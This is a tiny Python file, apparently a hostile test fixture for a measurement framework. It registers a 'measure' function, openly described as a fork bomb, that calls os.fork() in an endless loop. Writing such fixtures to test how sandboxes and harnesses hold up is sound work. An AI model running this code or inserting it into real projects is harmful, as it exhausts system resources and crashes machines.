"""It is a fork bomb."""

import os

from measures import Subject, measure


@measure(source="nobody", family="norm")
def hostile(_: Subject) -> float:
    """It is a fork bomb."""
    while True:
        os.fork()
